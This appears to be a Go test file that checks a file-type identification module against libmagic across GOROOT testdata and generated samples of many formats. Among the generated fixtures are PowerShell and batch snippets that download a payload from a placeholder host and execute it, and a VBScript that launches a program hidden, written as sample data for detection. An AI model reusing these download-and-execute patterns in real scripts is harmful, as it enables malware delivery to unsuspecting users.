package filetype

import (
	"archive/tar"
	"archive/zip"
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"flag"
	"fmt"
	"image"
	"image/jpeg"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite testdata/magic.golden, keeping its reasons by path")

// agreementFloor is the lowest accepted share of samples on which Identify
// agrees with libmagic (agree or compatible). It is the rate measured when
// the golden file was last reviewed; raise it when detection improves.
const agreementFloor = 0.996 // 289 of 290 samples with file 5.44 and Go 1.26

const magicGolden = "testdata/magic.golden"

// mimeAliases maps the names libmagic and mimetype give the same format
// onto one canonical name; equal canonical names "agree".
var mimeAliases = map[string]string{
	// ELF executables and shared objects: libmagic names PIE executables
	// apart, mimetype calls every ET_DYN a shared library.
	"application/x-elf":            "application/x-executable",
	"application/x-sharedlib":      "application/x-executable",
	"application/x-pie-executable": "application/x-executable",
	// PE images and their DOS stubs.
	"application/x-msdownload": "application/vnd.microsoft.portable-executable",
	"application/x-dosexec":    "application/vnd.microsoft.portable-executable",
	// Compressors and archives.
	"application/x-gzip":           "application/gzip",
	"application/x-zstd":           "application/zstd",
	"application/x-zip-compressed": "application/zip",
	"application/x-rar":            "application/vnd.rar",
	"application/x-rar-compressed": "application/vnd.rar",
	// OLE compound files libmagic cannot name more precisely.
	"application/CDFV2": "application/x-ole-storage",
	// Text and the empty file.
	"application/xml":  "text/xml",
	"text/x-sh":        "text/x-shellscript",
	"application/x-sh": "text/x-shellscript",
	"inode/x-empty":    "application/x-empty",
}

// mimeFamilies groups canonical names that differ but describe the same
// kind of content, one more specific than the other: they are "compatible".
// text/plain and text/x-c are not the same type, but both are text; a JAR
// or an OOXML document is a zip; a Word document is an OLE file.
var mimeFamilies = map[string]string{
	"application/zip":          "zip",
	"application/java-archive": "zip",
	"application/vnd.openxmlformats-officedocument.wordprocessingml.document":   "zip",
	"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet":         "zip",
	"application/vnd.openxmlformats-officedocument.presentationml.presentation": "zip",
	"application/x-ole-storage":     "ole",
	"application/msword":            "ole",
	"application/vnd.ms-excel":      "ole",
	"application/vnd.ms-powerpoint": "ole",
	"application/vnd.ms-outlook":    "ole",
	"application/x-ms-installer":    "ole",
	"application/json":              "text",
	"application/javascript":        "text",
	// Every text/* type is in the "text" family (mimeFamily).
}

// canonicalMIME returns the canonical name of a MIME type.
func canonicalMIME(m string) string {
	if c, ok := mimeAliases[m]; ok {
		return c
	}
	return m
}

// mimeFamily returns the family of a canonical MIME type, "" if it has none.
func mimeFamily(m string) string {
	if f, ok := mimeFamilies[m]; ok {
		return f
	}
	if strings.HasPrefix(m, "text/") {
		return "text"
	}
	return ""
}

// Agreement classes.
const (
	classAgree      = "agree"
	classCompatible = "compatible"
	classDisagree   = "disagree"
)

func classify(ours, theirs string) string {
	o, l := canonicalMIME(ours), canonicalMIME(theirs)
	switch {
	case o == l:
		return classAgree
	case mimeFamily(o) != "" && mimeFamily(o) == mimeFamily(l):
		return classCompatible
	default:
		return classDisagree
	}
}

// magicSample is one file compared with libmagic.
type magicSample struct {
	key  string // path relative to GOROOT, or "generated/NAME"
	path string
}

// goSamples returns every regular file under GOROOT's debug, archive and
// compress testdata directories.
func goSamples(t *testing.T) []magicSample {
	t.Helper()
	out, err := exec.Command("go", "env", "GOROOT").Output()
	if err != nil {
		t.Fatalf("go env GOROOT: %v", err)
	}
	root := strings.TrimSpace(string(out))
	var samples []magicSample
	for _, pkg := range []string{"debug", "archive", "compress"} {
		dirs, err := filepath.Glob(filepath.Join(root, "src", pkg, "*", "testdata"))
		if err != nil {
			t.Fatal(err)
		}
		for _, dir := range dirs {
			err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
				if err != nil || !d.Type().IsRegular() {
					return err
				}
				rel, err := filepath.Rel(root, p)
				if err != nil {
					return err
				}
				samples = append(samples, magicSample{key: filepath.ToSlash(rel), path: p})
				return nil
			})
			if err != nil {
				t.Fatal(err)
			}
		}
	}
	if len(samples) == 0 {
		t.Fatalf("no testdata files under %s", root)
	}
	return samples
}

func mustHex(s string) []byte {
	b, err := hex.DecodeString(s)
	if err != nil {
		panic(err)
	}
	return b
}

// Tiny compressed streams of "hello athena\n", made by bzip2, xz and zstd at
// their default settings, so the test needs no compressor binaries.
var (
	bzip2Sample = mustHex("425a68393141592653599830e3f2000003518000104000224584002000221a07a420c988a0ce8d6349f8bb9229c28484c1871f90")
	xzSample    = mustHex("fd377a585a000004e6d6b4460200210116000000742fe5a301000c68656c6c6f20617468656e610a0000000014b58d1db6bf2a9a0001250d7119c4b61fb6f37d010000000004595a")
	zstdSample  = mustHex("28b52ffd240d69000068656c6c6f20617468656e610a1993df82")
)

func tarSample(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := tar.NewWriter(&buf)
	body := []byte("hello athena\n")
	if err := w.WriteHeader(&tar.Header{Name: "readme.txt", Mode: 0o644, Size: int64(len(body))}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(body); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func jpegSample(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, image.NewGray(image.Rect(0, 0, 8, 8)), nil); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// docxSample returns a minimal WordprocessingML package: a zip whose first
// entry is [Content_Types].xml, then the main document part.
func docxSample(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	parts := []struct{ name, body string }{
		{"[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` +
			`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
			`<Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` +
			`</Types>`},
		{"_rels/.rels", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` +
			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>` +
			`</Relationships>`},
		{"word/document.xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` +
			`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>`},
	}
	for _, p := range parts {
		f, err := w.Create(p.name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(f, p.body); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// oleSample returns the header sector of an OLE compound file (version 3,
// 512-byte sectors) followed by one empty sector.
func oleSample() []byte {
	b := make([]byte, 1024)
	copy(b, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1")
	binary.LittleEndian.PutUint16(b[0x18:], 0x003E) // minor version
	binary.LittleEndian.PutUint16(b[0x1A:], 0x0003) // major version
	binary.LittleEndian.PutUint16(b[0x1C:], 0xFFFE) // byte order
	binary.LittleEndian.PutUint16(b[0x1E:], 9)      // sector shift
	binary.LittleEndian.PutUint16(b[0x20:], 6)      // mini sector shift
	binary.LittleEndian.PutUint32(b[0x2C:], 1)      // FAT sectors
	binary.LittleEndian.PutUint32(b[0x30:], 0)      // first directory sector
	binary.LittleEndian.PutUint32(b[0x38:], 0x1000) // mini stream cutoff
	binary.LittleEndian.PutUint32(b[0x3C:], 0xFFFFFFFE)
	binary.LittleEndian.PutUint32(b[0x44:], 0xFFFFFFFE)
	for i := 0x4C; i < 0x200; i += 4 {
		binary.LittleEndian.PutUint32(b[i:], 0xFFFFFFFF)
	}
	binary.LittleEndian.PutUint32(b[0x4C:], 1) // DIFAT[0]
	return b
}

// zipOf returns a zip archive holding the named files, in order.
func zipOf(t *testing.T, files ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, name := range files {
		f, err := w.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(f, "<?xml version=\"1.0\"?>\n<x/>\n"); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// dllSample returns peSample marked as a DLL in its COFF characteristics,
// with a PE32+ optional header magic.
func dllSample() []byte {
	b := peSample()
	binary.LittleEndian.PutUint16(b[0x80+4+16:], 0xF0)   // SizeOfOptionalHeader
	binary.LittleEndian.PutUint16(b[0x80+4+18:], 0x2022) // executable, large address aware, DLL
	binary.LittleEndian.PutUint16(b[0x80+4+20:], 0x020B) // PE32+
	binary.LittleEndian.PutUint16(b[0x80+4+20+68:], 2)   // subsystem: Windows GUI
	return b
}

// elf32BigEndianShared returns the header of a 32-bit big-endian MIPS
// shared object.
func elf32BigEndianShared() []byte {
	b := make([]byte, 52)
	copy(b, "\x7fELF\x01\x02\x01")
	binary.BigEndian.PutUint16(b[16:], 3) // ET_DYN
	binary.BigEndian.PutUint16(b[18:], 8) // MIPS
	binary.BigEndian.PutUint32(b[20:], 1) // EV_CURRENT
	return b
}

// javaClassSample returns the start of a Java 8 class file, whose magic
// 0xCAFEBABE is also the magic of a universal Mach-O binary.
func javaClassSample() []byte {
	return mustHex("cafebabe00000034001d0a000600100900110012080013" + strings.Repeat("00", 32))
}

// cabSample returns a cabinet header (CFHEADER) of version 1.3 announcing
// one folder and one file, followed by zero padding.
func cabSample() []byte {
	b := make([]byte, 96)
	copy(b, "MSCF")
	binary.LittleEndian.PutUint32(b[8:], uint32(len(b))) // cbCabinet
	binary.LittleEndian.PutUint32(b[16:], 44)            // coffFiles
	b[24], b[25] = 3, 1                                  // version 1.3
	binary.LittleEndian.PutUint16(b[26:], 1)             // cFolders
	binary.LittleEndian.PutUint16(b[28:], 1)             // cFiles
	return b
}

// generatedSamples writes one file per format under dir.
func generatedSamples(t *testing.T, dir string) []magicSample {
	t.Helper()
	files := []struct {
		name string
		data []byte
	}{
		{"empty", nil},
		{"sample.zip", zipSample(t)},
		{"sample.tar", tarSample(t)},
		{"sample.gz", gzipSample(t)},
		{"sample.bz2", bzip2Sample},
		{"sample.xz", xzSample},
		{"sample.zst", zstdSample},
		{"sample.7z", mustHex("377abcaf271c0004" + strings.Repeat("00", 24))},
		{"sample.rar", append([]byte("Rar!\x1a\x07\x00"), make([]byte, 32)...)},
		{"sample.pdf", []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")},
		{"sample.exe", peSample()},
		{"sample.elf", elfSample()},
		{"sample.obj", coffSample()},
		{"sample.png", pngSample(t)},
		{"sample.jpg", jpegSample(t)},
		{"sample.html", []byte("<!DOCTYPE html>\n<html><head><title>Hi</title></head><body><p>Hello</p></body></html>\n")},
		{"sample.json", []byte(`{"name": "athena", "tags": ["scan", "filetype"], "size": 42}` + "\n")},
		{"sample.xml", []byte("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<note><to>Ops</to><body>Hello</body></note>\n")},
		{"sample.sh", []byte("#!/bin/sh\nset -e\necho \"hello\"\n")},
		{"sample.ps1", lines(
			`param([string]$Url = "http://example.test/a")`,
			`$ErrorActionPreference = "SilentlyContinue"`,
			`$wc = New-Object System.Net.WebClient`,
			`$data = $wc.DownloadString($Url)`,
			`IEX $data`,
		)},
		{"sample.txt", []byte("Meeting notes\n\nWe agreed to ship the release on Friday.\n")},
		{"utf16.txt", utf16LE("Meeting notes\r\nWe agreed to ship the release on Friday.\r\n")},
		{"sample.docx", docxSample(t)},
		{"sample.xlsx", zipOf(t, "[Content_Types].xml", "_rels/.rels", "xl/workbook.xml")},
		{"sample.jar", zipOf(t, "META-INF/MANIFEST.MF", "Main.class")},
		{"sample.dll", dllSample()},
		{"elf32be.so", elf32BigEndianShared()},
		{"sample.class", javaClassSample()},
		{"rar5.rar", append([]byte("Rar!\x1a\x07\x01\x00"), make([]byte, 32)...)},
		{"sample.cab", cabSample()},
		{"sample.csv", []byte("name,size,kind\nreport.pdf,1024,pdf\nsetup.exe,2048,exe\n")},
		{"bom.txt", append([]byte("\xEF\xBB\xBF"), "Meeting notes\nWe agreed to ship on Friday.\n"...)},
		{"sample.bat", lines(
			"@echo off",
			"set URL=http://example.test/a.exe",
			"bitsadmin /transfer job /download /priority high %URL% %TEMP%\\a.exe",
			"start \"\" %TEMP%\\a.exe",
			"exit /b 0",
		)},
		{"sample.vbs", lines(
			`Dim sh`,
			`Set sh = CreateObject("WScript.Shell")`,
			`sh.Run "cmd /c calc.exe", 0, False`,
			`WScript.Quit`,
		)},
		{"sample.ole", oleSample()},
	}
	out := make([]magicSample, 0, len(files))
	for _, f := range files {
		p := filepath.Join(dir, f.name)
		if err := os.WriteFile(p, f.data, 0o644); err != nil {
			t.Fatal(err)
		}
		out = append(out, magicSample{key: "generated/" + f.name, path: p})
	}
	return out
}

// decodedSamples decodes the base64-armoured testdata files among samples
// (Mach-O and Go binaries, crafted archives) into dir, keyed
// "generated/decoded/PATH" by their GOROOT path without ".base64".
func decodedSamples(t *testing.T, samples []magicSample, dir string) []magicSample {
	t.Helper()
	var out []magicSample
	for _, s := range samples {
		rel, ok := strings.CutSuffix(s.key, ".base64")
		if !ok {
			continue
		}
		text, err := os.ReadFile(s.path)
		if err != nil {
			t.Fatal(err)
		}
		data, err := base64.StdEncoding.DecodeString(strings.Join(strings.Fields(string(text)), ""))
		if err != nil {
			t.Fatalf("%s: %v", s.key, err)
		}
		p := filepath.Join(dir, strings.ReplaceAll(rel, "/", "_"))
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
		out = append(out, magicSample{key: "generated/decoded/" + rel, path: p})
	}
	return out
}

// libmagicTypes runs `file --mime-type -b` once over all paths and returns
// one type per path.
func libmagicTypes(t *testing.T, paths []string) []string {
	t.Helper()
	bin, err := exec.LookPath("file")
	if err != nil {
		t.Fatalf("the file command (Debian package file, libmagic) is a test dependency: %v", err)
	}
	cmd := exec.Command(bin, append([]string{"--mime-type", "-b", "--"}, paths...)...)
	cmd.Env = append(os.Environ(), "LC_ALL=C")
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%s: %v", bin, err)
	}
	types := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
	if len(types) != len(paths) {
		t.Fatalf("file printed %d types for %d files", len(types), len(paths))
	}
	return types
}

// ourType identifies a file as the module does: from its first HeadSize
// bytes, with its base name as the declared name.
func ourType(t *testing.T, path string) string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	head := make([]byte, HeadSize)
	n, err := io.ReadFull(f, head)
	if err != nil && err != io.EOF && err != io.ErrUnexpectedEOF {
		t.Fatal(err)
	}
	return Identify(head[:n], filepath.Base(path)).MIME
}

// magicRow is one line of the golden file.
type magicRow struct {
	key, ours, libmagic, class, reason string
}

func (r magicRow) String() string {
	fields := []string{r.key, r.ours, r.libmagic, r.class}
	if r.reason != "" {
		fields = append(fields, r.reason)
	}
	return strings.Join(fields, "\t")
}

const magicHeader = `# Identify (ours) against libmagic's "file --mime-type -b", one sample per line:
# path (relative to GOROOT; generated/NAME for samples written by the test,
# generated/decoded/PATH for GOROOT's .base64 testdata decoded)
# then, tab-separated: ours, libmagic, class, reason
# class is agree (same type after aliasing), compatible (same family) or
# disagree; every non-agreement needs a reason. Regenerate with
#   go test ./modules/filetype -run TestAgreementWithLibmagic -update
# which keeps the reasons by path.
`

func readMagicGolden(t *testing.T) map[string]magicRow {
	t.Helper()
	rows := map[string]magicRow{}
	f, err := os.Open(magicGolden)
	if os.IsNotExist(err) && *update {
		return rows
	}
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		fields := strings.SplitN(line, "\t", 5)
		if len(fields) < 4 {
			t.Fatalf("%s: malformed line %q", magicGolden, line)
		}
		r := magicRow{key: fields[0], ours: fields[1], libmagic: fields[2], class: fields[3]}
		if len(fields) == 5 {
			r.reason = fields[4]
		}
		rows[r.key] = r
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestAgreementWithLibmagic(t *testing.T) {
	samples := goSamples(t)
	dir := t.TempDir()
	samples = append(samples, decodedSamples(t, samples, dir)...)
	samples = append(samples, generatedSamples(t, dir)...)
	paths := make([]string, len(samples))
	for i, s := range samples {
		paths[i] = s.path
	}
	theirs := libmagicTypes(t, paths)
	golden := readMagicGolden(t)

	rows := make([]magicRow, len(samples))
	counts := map[string]int{}
	for i, s := range samples {
		ours := ourType(t, s.path)
		r := magicRow{key: s.key, ours: ours, libmagic: theirs[i], class: classify(ours, theirs[i])}
		if r.class != classAgree {
			r.reason = golden[s.key].reason
		}
		rows[i] = r
		counts[r.class]++
	}
	slices.SortFunc(rows, func(a, b magicRow) int { return strings.Compare(a.key, b.key) })

	rate := float64(counts[classAgree]+counts[classCompatible]) / float64(len(rows))
	t.Logf("agreement with libmagic: %.1f%% of %d samples (%d agree, %d compatible, %d disagree)",
		100*rate, len(rows), counts[classAgree], counts[classCompatible], counts[classDisagree])

	if *update {
		var b strings.Builder
		b.WriteString(magicHeader)
		for _, r := range rows {
			fmt.Fprintln(&b, r)
		}
		if err := os.MkdirAll(filepath.Dir(magicGolden), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(magicGolden, []byte(b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}

	for _, r := range rows {
		g, ok := golden[r.key]
		switch {
		case *update:
		case !ok:
			t.Errorf("%s: not in %s (got %s, libmagic %s, %s); run with -update", r.key, magicGolden, r.ours, r.libmagic, r.class)
		case g.ours != r.ours || g.libmagic != r.libmagic || g.class != r.class:
			t.Errorf("%s: got %s / libmagic %s (%s), golden %s / %s (%s)", r.key, r.ours, r.libmagic, r.class, g.ours, g.libmagic, g.class)
		}
		if r.class != classAgree && strings.TrimSpace(r.reason) == "" {
			t.Errorf("%s: %s (ours %s, libmagic %s) has no reason in %s", r.key, r.class, r.ours, r.libmagic, magicGolden)
		}
	}
	if !*update {
		for key := range golden {
			if !slices.ContainsFunc(rows, func(r magicRow) bool { return r.key == key }) {
				t.Errorf("%s: in %s but no longer a sample; run with -update", key, magicGolden)
			}
		}
	}
	if rate < agreementFloor {
		t.Errorf("agreement %.3f below the floor %.3f", rate, agreementFloor)
	}
}
